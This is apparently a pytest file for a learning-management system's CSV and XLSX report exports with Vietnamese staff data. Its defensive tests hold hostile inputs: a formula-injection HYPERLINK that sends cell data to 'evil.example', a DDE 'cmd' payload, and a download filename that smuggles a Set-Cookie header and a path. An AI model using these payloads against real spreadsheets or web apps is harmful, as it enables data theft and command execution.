import csv
import io
import tracemalloc
import unicodedata
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from werkzeug.http import parse_options_header

from lms.reports.exports import (
    BATCH_ROWS,
    CHUNK_BYTES,
    csv_response,
    csv_stream,
    safe_cell,
    xlsx_bytes,
    xlsx_response,
)

HEADER = ["Mã NV", "Họ và tên", "Đơn vị", "Ngày cấp"]
NAMES = ["Nguyễn Thị Hồng Nhung", "Đặng Văn Ưng", "Trần Thị Ánh Tuyết", "Lê Thị Ngọc Ẩn"]
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


def read_csv(chunks):
    """What Excel or a script gets from the download: UTF-8 with a BOM, then CSV rows."""
    data = "".join(chunks).encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(chunks):
    return load_workbook(io.BytesIO(b"".join(chunks))).active


@pytest.mark.parametrize("value", [
    -5, -2.5, Decimal("-1.25"), 0, None, date(2025, 3, 8), datetime(2025, 3, 8, 14, 5),
    "Nguyễn Thị Hồng Nhung", "a=b", "", "'-quoted already",
])
def test_safe_cell_leaves_numbers_dates_and_plain_text_alone(value):
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


@pytest.mark.parametrize("prefix", PREFIXES)
def test_safe_cell_defuses_text_a_spreadsheet_would_run(prefix):
    assert safe_cell(prefix + "1+1") == "'" + prefix + "1+1"


def test_csv_starts_with_the_bom_and_the_header_alone():
    chunks = csv_stream(HEADER, [("NV001", NAMES[0], "Sở Nội vụ", date(2025, 3, 8))])
    assert next(chunks) == "\ufeffMã NV,Họ và tên,Đơn vị,Ngày cấp\r\n"
    assert next(chunks) == "NV001,Nguyễn Thị Hồng Nhung,Sở Nội vụ,2025-03-08\r\n"
    assert next(chunks, None) is None


def test_vietnamese_names_and_punctuation_round_trip_through_csv():
    rows = [(f"NV{i}", name, 'Phòng "Tổ chức, Cán bộ"', None) for i, name in enumerate(NAMES)]
    assert read_csv(csv_stream(HEADER, rows)) == [
        HEADER, *([f"NV{i}", name, 'Phòng "Tổ chức, Cán bộ"', ""] for i, name in enumerate(NAMES))
    ]
    for name in NAMES:
        assert unicodedata.is_normalized("NFC", name)


@pytest.mark.parametrize("prefix", PREFIXES)
def test_formula_injection_is_defused_in_csv(prefix):
    payload = prefix + 'HYPERLINK("http://evil.example/?x="&A1, "Bấm vào")'
    [_, row] = read_csv(csv_stream(["Tên", "Điểm"], [(payload, -5)]))
    assert row == ["'" + payload, "-5"]


@pytest.mark.parametrize("prefix", PREFIXES)
def test_formula_injection_is_defused_in_xlsx(prefix):
    payload = prefix + "cmd|' /C calc'!A0"
    sheet = read_xlsx(xlsx_bytes("Báo cáo", ["Tên", "Điểm"], [(payload, -5)]))
    text, number = sheet["A2"], sheet["B2"]
    # XML reads a stored carriage return back as a line feed.
    assert text.value == "'" + payload.replace("\r", "\n")
    assert text.data_type == "s"
    assert number.value == -5
    assert number.data_type == "n"


def test_dates_are_iso_in_csv_and_real_dates_in_xlsx():
    issued, synced = date(2025, 3, 8), datetime(2025, 3, 8, 14, 5, 59, tzinfo=UTC)
    header = ["Ngày cấp", "Đồng bộ lúc"]
    assert read_csv(csv_stream(header, [(issued, synced)]))[1] == ["2025-03-08", "2025-03-08 14:05"]
    sheet = read_xlsx(xlsx_bytes("Báo cáo", header, [(issued, synced)]))
    assert sheet["A2"].is_date
    assert sheet["A2"].value == datetime(2025, 3, 8)
    assert sheet["B2"].is_date
    assert sheet["B2"].value == datetime(2025, 3, 8, 14, 5, 59)
    assert sheet["B2"].number_format == "yyyy-mm-dd hh:mm"


def test_csv_reads_rows_only_as_it_writes_them():
    def rows():
        for i in range(BATCH_ROWS):
            yield (f"NV{i:06d}", NAMES[i % len(NAMES)], "Sở Nội vụ", date(2025, 1, 1))
        raise AssertionError("the export read past its first batch")

    chunks = csv_stream(HEADER, rows())
    assert next(chunks).startswith("\ufeff")
    assert next(chunks).count("\r\n") == BATCH_ROWS


def test_a_hundred_thousand_rows_stream_in_small_memory():
    rows = ((f"NV{i:06d}", NAMES[i % len(NAMES)], -i, date(2025, 1, 1)) for i in range(100_000))
    lines = size = largest = 0
    tracemalloc.start()
    try:
        for chunk in csv_stream(HEADER, rows):
            lines += chunk.count("\r\n")
            size += len(chunk.encode("utf-8"))
            largest = max(largest, len(chunk))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert lines == 100_001
    assert size > 4_000_000
    assert largest < 100 * BATCH_ROWS
    assert peak < 1_000_000


def test_xlsx_has_a_bold_frozen_header_sized_columns_and_vietnamese_text():
    rows = [(f"NV{i}", name, "Sở Nội vụ", date(2025, 3, 8)) for i, name in enumerate(NAMES)]
    sheet = read_xlsx(xlsx_bytes("Tiến độ đào tạo", HEADER, rows))
    assert sheet.title == "Tiến độ đào tạo"
    assert [c.value for c in sheet[1]] == HEADER
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width >= len("Họ và tên")
    assert [c.value for c in sheet["B"][1:]] == NAMES


@pytest.mark.parametrize(("title", "expected"), [
    ("Báo cáo: 01/2025 [Sở Nội vụ]", "Báo cáo- 01-2025 -Sở Nội vụ-"),
    ("Tiến độ *đào tạo?* \\ tỉnh", "Tiến độ -đào tạo-- - tỉnh"),
    ("Tiến độ đào tạo cán bộ, công chức cấp xã", "Tiến độ đào tạo cán bộ, công ch"),
    ("'Trích'", "Trích"),
    ("[]", "--"),
    ("", "Sheet1"),
])
def test_sheet_titles_are_made_acceptable_to_excel(title, expected):
    assert read_xlsx(xlsx_bytes(title, ["Tên"], [])).title == expected


def test_xlsx_is_streamed_in_chunks():
    rows = ((f"NV{i:06d}", NAMES[i % len(NAMES)], i) for i in range(5_000))
    chunks = list(xlsx_bytes("Báo cáo", HEADER[:3], rows))
    assert len(chunks) > 1
    assert all(len(chunk) <= CHUNK_BYTES for chunk in chunks)
    assert read_xlsx(chunks).max_row == 5_001


def test_xlsx_drops_characters_excel_cannot_store():
    sheet = read_xlsx(xlsx_bytes("Báo cáo", ["Tên"], [("Nguyễn\x0bThị\x00 Nhung",)]))
    assert sheet["A2"].value == "NguyễnThị Nhung"


def test_csv_response_is_a_vietnamese_named_attachment(app):
    with app.test_request_context():
        response = csv_response("Báo cáo đơn vị.csv", HEADER, [("NV1", NAMES[0], "Sở", None)])
        assert response.is_streamed
        body = response.get_data()
    assert response.content_type == "text/csv; charset=utf-8"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Disposition"] == (
        "attachment; filename=\"Bao cao don vi.csv\"; "
        "filename*=UTF-8''B%C3%A1o%20c%C3%A1o%20%C4%91%C6%A1n%20v%E1%BB%8B.csv")
    _, options = parse_options_header(response.headers["Content-Disposition"])
    assert options["filename"] == "Báo cáo đơn vị.csv"
    assert read_csv([body.decode("utf-8")])[1] == ["NV1", NAMES[0], "Sở", ""]


def test_download_names_cannot_carry_paths_quotes_or_new_headers(app):
    with app.test_request_context():
        response = csv_response('../"Bảng"\r\nSet-Cookie: x=1.csv', HEADER, [])
    disposition = response.headers["Content-Disposition"]
    assert "\r" not in disposition
    assert "\n" not in disposition
    assert "/" not in disposition.split("filename*=")[0]
    _, options = parse_options_header(disposition)
    assert options["filename"] == "..BảngSet-Cookie: x=1.csv"


def test_xlsx_response_is_a_workbook_attachment(app):
    with app.test_request_context():
        response = xlsx_response("Tiến độ Sở Nội vụ.xlsx", "Tiến độ", HEADER,
                                 [("NV1", NAMES[0], "Sở Nội vụ", date(2025, 3, 8))])
        assert response.is_streamed
        body = response.get_data()
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Disposition"].startswith(
        "attachment; filename=\"Tien do So Noi vu.xlsx\"; filename*=UTF-8''Ti%E1%BA%BFn")
    sheet = read_xlsx([body])
    assert sheet.title == "Tiến độ"
    assert sheet["B2"].value == NAMES[0]
